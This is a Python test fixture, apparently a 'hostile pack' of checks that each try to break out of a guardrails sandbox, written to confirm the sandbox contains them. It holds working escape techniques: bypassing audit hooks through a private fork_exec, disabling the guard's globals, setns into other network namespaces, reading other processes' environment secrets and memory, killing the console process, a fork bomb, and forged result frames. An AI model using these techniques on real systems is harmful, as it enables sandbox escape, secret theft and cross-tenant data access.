"""A hostile pack: one check for each thing a malicious author tried against the sandbox.

Each check attempts its attack with plain Python (no native code of its own) and reports
the outcome: `failed("escaped: ...")` when the attack got through, `PASSED` (or an error,
or a limit) when it was contained. The tests (tests/guardrails/test_sandbox_hostile.py)
also look from outside: the listener's connections, the console's pid, leftover processes.
The config carries what an attacker would have to guess (the console's pid, a port).
"""

from __future__ import annotations

import contextlib
import errno
import gc
import os
import signal
import socket
import threading
import time
from typing import Any

from guardrails.engine.registry import define_check
from guardrails.engine.types import PASSED, CheckOutcome, failed

ANY = {"type": "object"}
_memory: list[str] = []


def _spawn(argv: list[str], stdout: int = -1) -> int:
    """Start a program through _posixsubprocess.fork_exec, which raises no audit event."""
    import _posixsubprocess

    err_read, err_write = os.pipe()
    try:
        fork_exec: Any = _posixsubprocess.fork_exec  # a private API, called as CPython 3.11 does
        return int(
            fork_exec(
                [os.fsencode(a) for a in argv],
                [os.fsencode(argv[0])],
                True,
                (),
                None,
                None,
                -1,
                -1,
                -1,
                stdout,
                -1,
                -1,
                err_read,
                err_write,
                False,
                False,
                -1,
                None,
                None,
                None,
                -1,
                None,
                False,
            )
        )
    finally:
        os.close(err_read)
        os.close(err_write)


def _unguard() -> None:
    """Rebind the worker guard's globals so that the audit hook lets everything through."""
    from guardrails.engine.sandbox import worker

    setattr(worker, "_BLOCKED_EVENTS", ("\0never",))
    setattr(worker, "_another_process_entry", lambda path: False)  # the guard's /proc check, if any


def _libc() -> Any:
    _unguard()
    import ctypes

    return ctypes.CDLL(None, use_errno=True)


def _reaches(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=0.5):
            return True
    except OSError:
        return False


_SETNS_EVERYWHERE = """
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
pids = [int(config_pid)] + [int(e) for e in os.listdir('/proc') if e.isdigit()]
for pid in pids:
    try:
        fd = os.open(f'/proc/{pid}/ns/net', os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, 0x40000000) == 0:
        try:
            socket.create_connection(('127.0.0.1', port), timeout=0.5).close()
            sys.exit(0)
        except OSError:
            pass
sys.exit(1)
"""


def setns_through_fork_exec(config: Any, trace: Any) -> CheckOutcome:
    """A child started by fork_exec joins every network namespace it sees, then connects."""
    script = f"config_pid = {int(config['console_pid'])}; port = {int(config['port'])}\n"
    pid = _spawn(["/usr/bin/python3", "-c", script + _SETNS_EVERYWHERE])
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) == 0:
        return failed("escaped: a fork_exec child reached the console's network")
    return PASSED


def setns_through_ctypes(config: Any, trace: Any) -> CheckOutcome:
    """The guard's globals rebound, setns through ctypes into every visible namespace."""
    libc = _libc()
    pids = [int(config["console_pid"])] + [int(e) for e in os.listdir("/proc") if e.isdigit()]
    for pid in pids:
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError:
            continue
        entered = libc.setns(fd, 0x40000000) == 0
        os.close(fd)
        if entered and _reaches("127.0.0.1", int(config["port"])):
            return failed("escaped: setns through ctypes reached the console's network")
    return PASSED


def reads_parent_environ(config: Any, trace: Any) -> CheckOutcome:
    """os.open('<pid>/environ', dir_fd=/proc) for the parent and the console's pid."""
    proc = os.open("/proc", os.O_RDONLY)
    for pid in {os.getppid(), 1, int(config["console_pid"])}:
        try:
            fd = os.open(f"{pid}/environ", os.O_RDONLY, dir_fd=proc)
        except OSError:
            continue
        data = os.read(fd, 1 << 20)
        os.close(fd)
        if b"PATH=" in data or b"DATABASE_URL" in data or b"SECRET" in data:
            return failed(f"escaped: read the environment of pid {pid}")
    return PASSED


def reads_console_memory(config: Any, trace: Any) -> CheckOutcome:
    """Scan every visible process's memory (/proc/<pid>/mem, opened relative to a /proc
    descriptor) for another tenant's text, then open the console's memory read-write."""
    needle = str(config["needle"]).encode()
    proc = os.open("/proc", os.O_RDONLY)
    pids = {int(e) for e in os.listdir("/proc") if e.isdigit()} | {int(config["console_pid"])}
    for pid in sorted(pids - {os.getpid()}):
        if _memory_contains(proc, pid, needle):
            return failed(f"escaped: found another tenant's text in pid {pid}'s memory")
    try:
        fd = os.open(f"{int(config['console_pid'])}/mem", os.O_RDWR, dir_fd=proc)
    except OSError:
        return PASSED
    os.close(fd)
    return failed("escaped: opened the console's memory read-write")


def _memory_contains(proc: int, pid: int, needle: bytes) -> bool:
    try:
        maps_fd = os.open(f"{pid}/maps", os.O_RDONLY, dir_fd=proc)
        with os.fdopen(maps_fd) as maps_file:
            maps = maps_file.read().splitlines()
        fd = os.open(f"{pid}/mem", os.O_RDONLY, dir_fd=proc)
    except OSError:
        return False
    try:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" not in line.split()[1] or end - start > 64 << 20:
                continue
            try:
                if needle in os.pread(fd, end - start, start):
                    return True
            except OSError:
                continue
    finally:
        os.close(fd)
    return False


def kills_the_console(config: Any, trace: Any) -> CheckOutcome:
    """pidfd_send_signal(pidfd_open(pid), SIGKILL) toward the parent and the console."""
    libc = _libc()
    for pid in (os.getppid(), int(config["console_pid"])):
        pidfd = libc.syscall(434, pid, 0)  # pidfd_open
        if pidfd >= 0:
            libc.syscall(424, pidfd, signal.SIGKILL, None, 0)  # pidfd_send_signal
        with contextlib.suppress(OSError):
            os.kill(int(config["console_pid"]), signal.SIGKILL)
    return PASSED


def udp_beyond_the_allowlist(config: Any, trace: Any) -> CheckOutcome:
    """connect() a UDP socket to the allowed host, then sendto() somewhere else."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("127.0.0.1", int(config["allowed_port"])))
    sock.send(b"allowed")
    try:
        sock.sendto(b"escaped", ("127.0.0.1", int(config["other_port"])))
    except OSError:
        return PASSED
    return PASSED  # the test's other receiver says whether the datagram arrived


def runs_a_shell_as_root(config: Any, trace: Any) -> CheckOutcome:
    """fork_exec /bin/sh -c id: who does the child run as?"""
    read, write = os.pipe()
    pid = _spawn(["/bin/sh", "-c", "id -u"], stdout=write)
    os.close(write)
    output = os.read(read, 100).decode().strip()
    os.waitpid(pid, 0)
    if output == "0":
        return failed("escaped: a child ran as root")
    return PASSED


def leaves_a_child_behind(config: Any, trace: Any) -> CheckOutcome:
    """Start a child that spins forever (named by the marker), then hang past the limit."""
    _spawn(["/bin/sh", "-c", "while :; do :; done", str(config["marker"])])
    time.sleep(60)
    return PASSED


def children_share_the_memory(config: Any, trace: Any) -> CheckOutcome:
    """Three children holding 48 MB each under memMB 64."""
    libc = _libc()
    script = (
        "import sys, time; b = bytearray(48 << 20); b[::4096] = b'x' * len(b[::4096]); "
        "print('held', flush=True); time.sleep(30)"
    )
    pipes, pids = [], []
    for _ in range(3):
        read, write = os.pipe()
        pids.append(_spawn(["/usr/bin/python3", "-c", script], stdout=write))
        os.close(write)
        pipes.append(read)
    held = sum(1 for read in pipes if os.read(read, 10).startswith(b"held"))
    # Held at the same time: each printed "held" and none has been killed since (the kernel
    # may have killed an earlier one to make room for a later one).
    time.sleep(0.2)
    alive = sum(1 for pid in pids if os.waitpid(pid, os.WNOHANG) == (0, 0))
    held = min(held, alive)
    for pid in pids:
        libc.kill(pid, signal.SIGKILL)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)
    if held == 3:
        return failed("escaped: three children held 48 MB each under memMB 64")
    return PASSED


def forks_without_end(config: Any, trace: Any) -> CheckOutcome:
    """Start 200 processes that sleep (a fork bomb, politely)."""
    pids = []
    try:
        for _ in range(200):
            pids.append(_spawn(["/bin/sleep", "30"]))
    except OSError:
        pass
    libc = _libc()
    for pid in pids:
        libc.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if len(pids) >= 200:
        return failed("escaped: started 200 processes")
    return PASSED


def starts_processes_every_way(config: Any, trace: Any) -> CheckOutcome:
    """fork_exec (vfork), fork (clone), posix_spawn (clone with CLONE_VFORK) and exec in
    place: the reason lists what was refused; a child that ran is an escape."""
    _unguard()
    refused: list[str] = []
    started: list[str] = []

    def attempt(name: str, start: Any) -> None:
        try:
            pid = start()
        except OSError as error:
            refused.append(f"{name}: {errno.errorcode.get(error.errno or 0, error.errno)}")
            return
        if pid == 0:  # a child of fork: leave at once
            os._exit(0)
        started.append(name)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)

    attempt("fork_exec", lambda: _spawn(["/bin/true"]))
    attempt("fork", os.fork)
    attempt("posix_spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))

    if started:
        return failed(f"escaped: started a process through {', '.join(started)}")
    try:
        os.execv("/bin/true", ["true"])  # on success the worker is gone: the pool says so
    except OSError as error:
        refused.append(f"execv: {errno.errorcode.get(error.errno or 0, error.errno)}")
    return CheckOutcome(passed=True, reason="refused " + "; ".join(refused))


def spins_after_its_verdict(config: Any, trace: Any) -> CheckOutcome:
    """Return pass and keep a thread spinning."""

    def spin() -> None:
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline:
            pass

    threading.Thread(target=spin, daemon=True).start()
    return PASSED


def _channel() -> Any:
    from guardrails.engine.sandbox.protocol import Channel

    return next(obj for obj in gc.get_objects() if isinstance(obj, Channel))


def forges_an_early_verdict(config: Any, trace: Any) -> CheckOutcome:
    """Write forged result frames on the worker's channel, then keep working."""
    channel = _channel()
    channel.send({"op": "result", "status": "ok", "passed": True})  # no id
    channel.send({"op": "result", "id": "0-1", "status": "ok", "passed": True})  # a guess
    channel.send({"op": "result", "id": channel.call_id, "status": "ok", "passed": config.get("passed", "no")})
    deadline = time.monotonic() + float(config.get("spin_s", 0))
    while time.monotonic() < deadline:
        pass
    return failed("the check's own verdict")


def writes_to_dev_shm(config: Any, trace: Any) -> CheckOutcome:
    """Write 200 MB to /dev/shm and /tmp under memMB 64."""
    written = 0
    for path in ("/dev/shm/hostile", "/tmp/hostile"):
        try:
            with open(path, "wb") as handle:
                for _ in range(200):
                    handle.write(b"x" * (1 << 20))
                    written += 1
        except OSError:
            continue
    if written >= 200:
        return failed(f"escaped: wrote {written} MB to tmpfs under memMB 64")
    return PASSED


def huge_reason(config: Any, trace: Any) -> CheckOutcome:
    return failed("x" * (int(config["mb"]) << 20))


def huge_details(config: Any, trace: Any) -> CheckOutcome:
    return failed("big", blob="x" * (int(config["mb"]) << 20))


def huge_frame(config: Any, trace: Any) -> CheckOutcome:
    """Send a 50 MB frame with the right call id, past the worker's own cut."""
    channel = _channel()
    channel.send(
        {
            "op": "result",
            "id": channel.call_id,
            "status": "ok",
            "passed": False,
            "reason": "x" * (int(config["mb"]) << 20),
        }
    )
    time.sleep(5)
    return PASSED


def remembers_traces(config: Any, trace: Any) -> CheckOutcome:
    """Keep every trace's output in a module global and show the earlier ones."""
    seen = list(_memory)
    _memory.append(str(trace.get("output")))
    return failed(f"seen before: {seen}") if seen else PASSED


def datagram_to_the_host(config: Any, trace: Any) -> CheckOutcome:
    """Unix datagrams to a socket the console's host has bound (a path and an abstract name)."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    for address in (str(config["path"]), "\0" + str(config["abstract"])):
        try:
            sock.sendto(b"escaped", address)
        except OSError:
            continue
    return PASSED


def writes_to_stderr(config: Any, trace: Any) -> CheckOutcome:
    """Inject a line into the console's log through standard error (and every low fd)."""
    line = f"{config['marker']} ERROR django.security forged log line\n".encode()
    for fd in (1, 2):
        try:
            os.write(fd, line)
        except OSError:
            continue
    return PASSED


def aborts(config: Any, trace: Any) -> CheckOutcome:
    os.abort()


def exits(config: Any, trace: Any) -> CheckOutcome:
    os._exit(7)


class Pretender:
    """Looks like a pass: `passed` is True, but it is not a CheckOutcome."""

    passed = True
    reason = None
    details: dict[str, Any] = {}


class Unprintable(Exception):
    def __str__(self) -> str:
        raise RuntimeError("no message for you")


def returns_a_pretender(config: Any, trace: Any) -> CheckOutcome:
    return Pretender()  # type: ignore[return-value]


def raises_unprintable(config: Any, trace: Any) -> CheckOutcome:
    raise Unprintable


def passed_is_a_string(config: Any, trace: Any) -> CheckOutcome:
    return CheckOutcome(passed="no")  # type: ignore[arg-type]


HANDLERS = [
    setns_through_fork_exec,
    setns_through_ctypes,
    reads_parent_environ,
    reads_console_memory,
    kills_the_console,
    udp_beyond_the_allowlist,
    runs_a_shell_as_root,
    leaves_a_child_behind,
    children_share_the_memory,
    forks_without_end,
    starts_processes_every_way,
    spins_after_its_verdict,
    forges_an_early_verdict,
    writes_to_dev_shm,
    huge_reason,
    huge_details,
    huge_frame,
    remembers_traces,
    datagram_to_the_host,
    writes_to_stderr,
    aborts,
    exits,
    returns_a_pretender,
    raises_unprintable,
    passed_is_a_string,
]
CHECKS = [
    define_check(f"hostile-{fn.__name__.replace('_', '-')}", "zero-llm", fn, config_schema=ANY) for fn in HANDLERS
]
